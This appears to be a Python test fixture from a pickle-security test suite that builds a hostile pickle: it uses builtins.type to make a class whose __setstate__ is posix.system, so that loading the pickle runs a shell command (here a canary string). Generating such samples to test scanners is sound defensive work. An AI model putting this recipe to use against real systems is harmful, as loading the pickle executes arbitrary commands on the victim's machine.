"""Builtins.type makes a class whose __setstate__ is any function."""

from __future__ import annotations

from malicious_samples.recipes import make_call, shell
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    members = {"__setstate__": Name("posix", "system")}
    make = make_call(Name("builtins", "type"), "Model", (), members)
    return Pickle().save(make).empty_tuple().newobj().save(shell(canary)).build().finish()
